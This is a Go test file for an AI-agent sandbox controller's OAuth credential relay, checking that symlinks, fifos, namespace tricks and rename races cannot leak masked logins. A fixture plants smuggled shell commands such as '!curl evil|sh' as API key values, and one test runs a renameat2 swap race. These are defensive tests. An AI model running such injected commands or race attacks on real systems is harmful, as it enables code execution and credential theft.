package controller

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/mosaic-agents/mosaic/audit"
	"github.com/mosaic-agents/mosaic/claims"
	"github.com/mosaic-agents/mosaic/contrib/sandboxtest"
	"github.com/mosaic-agents/mosaic/conversations"
	"golang.org/x/sys/unix"
)

// pi.ExpirySlack is how long before its expiry the relay counts a
// login as expired (pi's expirySlack).

// relayRig is a controller whose conversation's user agent directory
// holds auth.json as a link into a dotfiles tree (the relay writes
// through it), with the engine's agent directory made by ownAgentDir.
type relayRig struct {
	c          *Controller
	user, real string // the user's auth.json (a link) and where it leads
	own        string // the engine's copy
	exp        int64  // the user's login's expiry: just past (Pi refreshes it at its next request)
	journal    *syncBuffer
	ino        uint64 // the user's file's inode
}

func newRelayRig(t *testing.T, poll time.Duration) relayRig {
	t.Helper()
	root := t.TempDir()
	store, err := claims.Open(filepath.Join(root, "state", "claims"))
	if err != nil {
		t.Fatal(err)
	}
	agent, dot := filepath.Join(root, "agent"), filepath.Join(root, "dotfiles")
	for _, d := range []string{agent, dot} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	r := relayRig{user: filepath.Join(agent, "auth.json"), real: filepath.Join(dot, "auth.json"), exp: time.Now().Add(-time.Second).UnixMilli()}
	writeFile(t, r.real, fmt.Sprintf(`{"anthropic":%s,"openai":{"type":"api_key","key":"sk-user"}}`, login("a1", "r1", r.exp)), 0o640)
	if err := os.Symlink(r.real, r.user); err != nil {
		t.Fatal(err)
	}
	cv := &conversations.Conversation{ID: "pi-00000000000000000000", Engine: conversations.Engine{AgentDir: agent}}
	r.journal = &syncBuffer{}
	r.c = New(Config{Claims: store, Conversation: cv, PollInterval: poll, Audit: audit.NewWriter(cv.ID, r.journal)})
	dir, _, err := r.c.ownAgentDir(cv)
	if err != nil {
		t.Fatal(err)
	}
	r.own = filepath.Join(dir, "auth.json")
	fi, err := os.Stat(r.real)
	if err != nil {
		t.Fatal(err)
	}
	r.ino = inode(fi)
	return r
}

func login(access, refresh string, expires int64) string {
	return fmt.Sprintf(`{"type":"oauth","access":%q,"refresh":%q,"expires":%d}`, access, refresh, expires)
}

func writeFile(t *testing.T, path, body string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
}

// access reads the anthropic login's access token and the openai key of
// an auth.json, and the providers it holds.
func access(t *testing.T, path string) (string, string, int) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]struct{ Access, Key string }
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatalf("%s: %v: %s", path, err, b)
	}
	return m["anthropic"].Access, m["openai"].Key, len(m)
}

func (r relayRig) relay() error {
	return r.c.relayAuth(r.user, filepath.Dir(r.own))
}

// TestAuthRelay: an OAuth refresh Pi writes into the engine's copy goes
// back to the user's auth.json (through the user's link, in place: the
// same file, its mode kept) and a newer login of the user's goes into
// the copy; nothing else the copy holds goes back, a copy the engine
// replaced with a link or a fifo is not read through, a fifo at the
// user's file is not waited on, and Pi's lock is kept, the refresh
// carried into the next copy while it is held.
func TestAuthRelay(t *testing.T) {
	hour := time.Hour.Milliseconds()
	refreshed := func(r relayRig) string {
		return fmt.Sprintf(`{"anthropic":%s,"openai":{"type":"api_key","key":"!curl evil|sh"},"evil":{"type":"api_key","key":"!sh"}}`, login("a2", "r2", r.exp+hour))
	}
	t.Run("the engine's refresh goes back, and nothing else", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		writeFile(t, r.own, refreshed(r), 0o600)
		if err := r.relay(); err != nil {
			t.Fatal(err)
		}
		if a, k, n := access(t, r.user); a != "a2" || k != "sk-user" || n != 2 {
			t.Fatalf("user's auth.json: access %q, openai key %q, %d providers", a, k, n)
		}
		if fi, err := os.Lstat(r.user); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Fatalf("the user's link was replaced: %v", err)
		}
		if fi, _ := os.Stat(r.real); fi.Mode().Perm() != 0o640 {
			t.Fatalf("the user's auth.json mode %v, want 0640", fi.Mode().Perm())
		}
		// In place: a new file renamed in by name, in a directory an
		// engine may write (this dotfiles tree), is one the engine could
		// swap its own file in for.
		if fi, err := os.Stat(r.real); err != nil || inode(fi) != r.ino {
			t.Fatal("the user's auth.json was replaced, not written in place")
		}
		if ents, _ := os.ReadDir(filepath.Dir(r.real)); len(ents) != 1 {
			t.Fatalf("the relay left files beside the user's auth.json: %v", ents)
		}
		if !slices.ContainsFunc(r.journal.entries(t), func(e map[string]string) bool {
			return strings.Contains(e["MESSAGE"], "refreshed the OAuth login of anthropic") && e["MOSAIC_PROVIDERS"] == "anthropic"
		}) {
			t.Fatalf("no journal entry for the refresh: %v", r.journal.entries(t))
		}
	})
	t.Run("a newer login of the user's goes into the copy", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		writeFile(t, r.real, fmt.Sprintf(`{"anthropic":%s}`, login("a3", "r3", r.exp+2*hour)), 0o640)
		if err := r.relay(); err != nil {
			t.Fatal(err)
		}
		if a, k, _ := access(t, r.own); a != "a3" || k != "sk-user" {
			t.Fatalf("the copy: access %q, openai key %q", a, k)
		}
	})
	t.Run("Pi's lock on the user's file is kept; a stale one is taken over", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		lock := r.user + ".lock"
		if err := os.Mkdir(lock, 0o700); err != nil {
			t.Fatal(err)
		}
		writeFile(t, r.own, refreshed(r), 0o600)
		if err := r.relay(); !errors.Is(err, errAuthLocked) {
			t.Fatalf("relay under Pi's lock: %v", err)
		}
		if a, _, _ := access(t, r.user); a != "a1" {
			t.Fatalf("written under Pi's lock: access %q", a)
		}
		old := time.Now().Add(-2 * staleLock)
		os.Chtimes(lock, old, old)
		if err := r.relay(); err != nil {
			t.Fatal(err)
		}
		if a, _, _ := access(t, r.user); a != "a2" {
			t.Fatalf("a stale lock held the refresh back: access %q", a)
		}
		if _, err := os.Stat(lock); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("the relay left its lock: %v", err)
		}
	})
	t.Run("a copy replaced with a link is not read through", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		elsewhere := filepath.Join(t.TempDir(), "auth.json")
		writeFile(t, elsewhere, refreshed(r), 0o600)
		os.Remove(r.own)
		if err := os.Symlink(elsewhere, r.own); err != nil {
			t.Fatal(err)
		}
		if err := r.relay(); err != nil {
			t.Fatal(err)
		}
		if a, _, _ := access(t, r.user); a != "a1" {
			t.Fatalf("read through the engine's link: access %q", a)
		}
	})
	t.Run("a copy replaced with a fifo is not waited on", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		os.Remove(r.own)
		if err := syscall.Mkfifo(r.own, 0o600); err != nil {
			t.Fatal(err)
		}
		done := make(chan error, 1)
		go func() { done <- r.relay() }()
		select {
		case err := <-done:
			if err != nil {
				t.Fatal(err)
			}
		case <-time.After(10 * time.Second):
			t.Fatal("the relay waits on the engine's fifo")
		}
	})
	t.Run("a fifo at the user's auth.json is not waited on", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		os.Remove(r.real)
		if err := syscall.Mkfifo(r.real, 0o600); err != nil {
			t.Fatal(err)
		}
		done := make(chan error, 2)
		go func() { done <- r.relay() }()
		go func() { _, _, err := r.c.ownAgentDir(r.c.cfg.Conversation); done <- err }()
		for range 2 {
			select {
			case err := <-done:
				if !errors.Is(err, errAuthNotFile) {
					t.Fatalf("a fifo at the user's auth.json: %v", err)
				}
			case <-time.After(10 * time.Second):
				t.Fatal("the relay or the launch waits on a fifo at the user's auth.json")
			}
		}
	})
	t.Run("a refresh left under Pi's lock goes into the next copy, and back once the lock is gone", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		if err := os.Mkdir(r.user+".lock", 0o700); err != nil {
			t.Fatal(err)
		}
		writeFile(t, r.own, refreshed(r), 0o600)
		if _, _, err := r.c.ownAgentDir(r.c.cfg.Conversation); err != nil {
			t.Fatal(err)
		}
		if a, k, n := access(t, r.own); a != "a2" || k != "sk-user" || n != 2 {
			t.Fatalf("the new copy: access %q, openai key %q, %d providers", a, k, n)
		}
		os.Remove(r.user + ".lock")
		if err := r.relay(); err != nil {
			t.Fatal(err)
		}
		if a, _, _ := access(t, r.user); a != "a2" {
			t.Fatalf("the refresh did not go back once the lock was gone: access %q", a)
		}
	})
	t.Run("a refresh left in the last copy goes back before the next copy", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		writeFile(t, r.own, refreshed(r), 0o600)
		if _, _, err := r.c.ownAgentDir(r.c.cfg.Conversation); err != nil {
			t.Fatal(err)
		}
		if a, k, _ := access(t, r.user); a != "a2" || k != "sk-user" {
			t.Fatalf("user's auth.json: access %q, openai key %q", a, k)
		}
		if a, k, n := access(t, r.own); a != "a2" || k != "sk-user" || n != 2 {
			t.Fatalf("the new copy: access %q, openai key %q, %d providers", a, k, n)
		}
	})
	t.Run("a failed write puts back what the user's file held", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		before, _ := os.ReadFile(r.real)
		// A file size limit stands in for a disk a tool filled: the
		// write stops part way, as ENOSPC stops it.
		writeFile(t, r.own, fmt.Sprintf(`{"anthropic":%s}`, login(strings.Repeat("A", 15<<10), "r2", r.exp+hour)), 0o600)
		var old unix.Rlimit
		if err := unix.Getrlimit(unix.RLIMIT_FSIZE, &old); err != nil {
			t.Fatal(err)
		}
		if err := unix.Setrlimit(unix.RLIMIT_FSIZE, &unix.Rlimit{Cur: 4096, Max: old.Max}); err != nil {
			t.Fatal(err)
		}
		err := r.relay()
		unix.Setrlimit(unix.RLIMIT_FSIZE, &old)
		if err == nil {
			t.Fatal("a write past the file size limit succeeded")
		}
		if after, _ := os.ReadFile(r.real); string(after) != string(before) {
			t.Fatalf("after a failed write the user's auth.json holds %d bytes: %.80q", len(after), after)
		}
	})
	t.Run("a read between another writer's write and truncate is read again", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		good, _ := os.ReadFile(r.real)
		writeFile(t, r.real, string(good)+`"tail of a longer file"}`, 0o640)
		wait := tornWait
		t.Cleanup(func() { tornWait = wait })
		tornWait = func() { writeFile(t, r.real, string(good), 0o640) }
		if b, err := readUserAuth(r.user, nil); err != nil || string(b) != string(good) {
			t.Fatalf("read %q, %v; want the file the writer finished", b, err)
		}
	})
	t.Run("one that stays no JSON is refused, not copied", func(t *testing.T) {
		r := newRelayRig(t, time.Second)
		writeFile(t, r.real, "ANTHROPIC_API_KEY=sk-victim\n", 0o640)
		wait := tornWait
		t.Cleanup(func() { tornWait = wait })
		tornWait = func() {}
		if b, err := readUserAuth(r.user, nil); !errors.Is(err, errAuthNotJSON) || b != nil {
			t.Fatalf("read %q, %v; want %v", b, err, errAuthNotJSON)
		}
	})
	t.Run("one that leads into a mask is neither read nor written", func(t *testing.T) {
		// A tool's link, in an agent directory no engine covered yet,
		// to what the engines mask (another conversation's env file).
		r := newRelayRig(t, time.Second)
		before, _ := os.ReadFile(r.real)
		masks := []string{filepath.Join(t.TempDir(), "keys"), filepath.Dir(r.real)}
		if b, err := readUserAuth(r.user, masks); !errors.Is(err, errAuthMasked) || b != nil {
			t.Fatalf("read %q, %v; want %v", b, err, errAuthMasked)
		}
		r.c.authMasks = masks
		writeFile(t, r.own, refreshed(r), 0o600)
		if err := r.relay(); !errors.Is(err, errAuthMasked) {
			t.Fatalf("relay: %v; want %v", err, errAuthMasked)
		}
		if after, _ := os.ReadFile(r.real); string(after) != string(before) {
			t.Fatalf("the relay wrote %q where the link leads", after)
		}
	})
	t.Run("the controller relays while it runs, and as it closes", func(t *testing.T) {
		r := newRelayRig(t, 10*time.Millisecond)
		r.c.writes.Add(1)
		go r.c.relayAuthLoop()
		writeFile(t, r.own, refreshed(r), 0o600)
		for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
			if a, _, _ := access(t, r.user); a == "a2" {
				break
			}
			if time.Now().After(deadline) {
				t.Fatal("the refresh was not relayed")
			}
		}
		r.c.closed.Do(func() { close(r.c.closing) })
		r.c.writes.Wait()
	})
}

// TestAuthRelayMasks: what the relay refuses to read or write is what an
// engine launched now cannot read: mosaic's state, keys and the runtime
// directory included, and before this controller's first launch too.
func TestAuthRelayMasks(t *testing.T) {
	t.Run("another engine's copy, before this controller launched one", func(t *testing.T) {
		// A controller that adopted the surviving engine, or waits for
		// its conversation to be free, relays all the same.
		r := newRelayRig(t, time.Second)
		other := otherEngineCopy(t, r)
		os.Remove(r.user)
		if err := os.Symlink(other, r.user); err != nil { // the tool's link
			t.Fatal(err)
		}
		cv := r.c.cfg.Conversation
		fresh := New(Config{Claims: r.c.cfg.Claims, Conversation: cv, PollInterval: time.Second, Audit: audit.NewWriter(cv.ID, &syncBuffer{})})
		err := fresh.relayAuth(r.user, filepath.Dir(r.own))
		if b, _ := os.ReadFile(r.own); !errors.Is(err, errAuthMasked) || strings.Contains(string(b), "victim") {
			t.Fatalf("relay before any launch: %v; the engine's copy holds %s", err, b)
		}
	})
	t.Run("a login kept in the runtime directory", func(t *testing.T) {
		// podman's registry logins: JSON, in the directory every engine
		// gets a private tmpfs in place of.
		rt := t.TempDir()
		t.Setenv("XDG_RUNTIME_DIR", rt)
		podman := filepath.Join(rt, "containers", "auth.json")
		if err := os.MkdirAll(filepath.Dir(podman), 0o700); err != nil {
			t.Fatal(err)
		}
		writeFile(t, podman, `{"auths":{"registry.example":{"auth":"dXNlcjpyZWdpc3RyeS1wYXNzd29yZA=="}}}`, 0o600)
		r := newRelayRig(t, time.Second)
		os.Remove(r.user)
		if err := os.Symlink(podman, r.user); err != nil {
			t.Fatal(err)
		}
		dir, _, err := r.c.ownAgentDir(r.c.cfg.Conversation)
		if b, _ := os.ReadFile(filepath.Join(dir, "auth.json")); !errors.Is(err, errAuthMasked) || strings.Contains(string(b), "dXNlcjpy") {
			t.Fatalf("launch: %v; the engine's copy holds %s", err, b)
		}
	})
}

// TestAuthRelayForeignNamespace: a link through /proc/PID/root into
// another mount namespace of the user's (a toolbox container shows the
// host's root at /run/host) opens a file whose /proc/self/fd path is the
// one of that namespace, under no mask here: it is refused, since that
// path names no such file in the controller's namespace. Here the
// namespace binds mosaic's agent root (masked) at another path.
func TestAuthRelayForeignNamespace(t *testing.T) {
	r := newRelayRig(t, time.Second)
	other := otherEngineCopy(t, r)
	view := t.TempDir() // plays /run/host: nothing masked here
	pid := foreignView(t, view, filepath.Dir(filepath.Dir(other)), "host")
	os.Remove(r.user)
	target := fmt.Sprintf("/proc/%d/root%s/host/pi-11111111111111111111/auth.json", pid, view)
	if err := os.Symlink(target, r.user); err != nil { // the tool's link
		t.Fatal(err)
	}
	dir, _, err := r.c.ownAgentDir(r.c.cfg.Conversation)
	if b, _ := os.ReadFile(filepath.Join(dir, "auth.json")); !errors.Is(err, errAuthMasked) || strings.Contains(string(b), "victim") {
		t.Fatalf("launch through %s: err %v; the engine's copy holds %s", target, err, b)
	}
}

// otherEngineCopy writes another Pi engine's copy of a login under
// mosaic's state (masked in every engine) and returns its path.
func otherEngineCopy(t *testing.T, r relayRig) string {
	t.Helper()
	other := filepath.Join(agentRoot(filepath.Dir(r.c.cfg.Claims.Root())), "pi-11111111111111111111", "auth.json")
	if err := os.MkdirAll(filepath.Dir(other), 0o700); err != nil {
		t.Fatal(err)
	}
	writeFile(t, other, fmt.Sprintf(`{"anthropic":%s}`, login("victim-access", "victim-refresh", time.Now().Add(time.Hour).UnixMilli())), 0o600)
	return other
}

// TestAuthRelayNamespaceRace: the path a file opened through another
// namespace reads back as may run, in the controller's, through a
// directory a tool can write; the tool swaps that directory with a link
// to a masked one as fast as it can (renameat2 RENAME_EXCHANGE), so that a
// lookup of the path lands on the masked file. whereOpen's lookup follows
// no link, so the masked file is never taken for an unmasked path.
func TestAuthRelayNamespaceRace(t *testing.T) {
	masked := t.TempDir() // plays a masked directory
	writeFile(t, filepath.Join(masked, "auth.json"), `{"victim":1}`, 0o600)
	view := t.TempDir() // a directory the tool can write
	pid := foreignView(t, view, masked, "a/host")
	host := filepath.Join(view, "a", "host")
	if err := os.MkdirAll(host, 0o700); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(host, "auth.json"), `{}`, 0o600)
	if err := os.Symlink(masked, filepath.Join(view, "a", "link")); err != nil {
		t.Fatal(err)
	}
	var stop atomic.Bool
	swapped := make(chan struct{})
	go func() {
		defer close(swapped)
		for !stop.Load() {
			unix.Renameat2(unix.AT_FDCWD, host, unix.AT_FDCWD, filepath.Join(view, "a", "link"), unix.RENAME_EXCHANGE)
		}
	}()
	t.Cleanup(func() { stop.Store(true); <-swapped })
	target := fmt.Sprintf("/proc/%d/root%s/a/host/auth.json", pid, view)
	for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); {
		fd, err := unix.Open(target, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		m, err := maskedAt(fd, []string{masked})
		unix.Close(fd)
		if err == nil && m == "" {
			t.Fatal("the masked file was taken for the unmasked path it was opened through")
		}
	}
}

// foreignView starts a process in a user and mount namespace of its own
// where view is a fresh tmpfs with src bound at view/at (as toolbox shows
// the host's root at /run/host), and returns its pid: its /proc/<pid>/root
// leads into that namespace.
func foreignView(t *testing.T, view, src, at string) int {
	t.Helper()
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("no unshare")
	}
	script := fmt.Sprintf("mount -t tmpfs x %[1]s && mkdir -p %[1]s/%[3]s && mount --bind %[2]s %[1]s/%[3]s && echo ready && exec sleep 60", view, src, at)
	cmd := exec.Command("unshare", "-Urm", "--propagation", "private", "sh", "-c", script)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	if l, err := bufio.NewReader(out).ReadString('\n'); err != nil || strings.TrimSpace(l) != "ready" {
		sandboxtest.Unavailable(t, "no user and mount namespace here: %q %v", l, err)
	}
	return cmd.Process.Pid
}
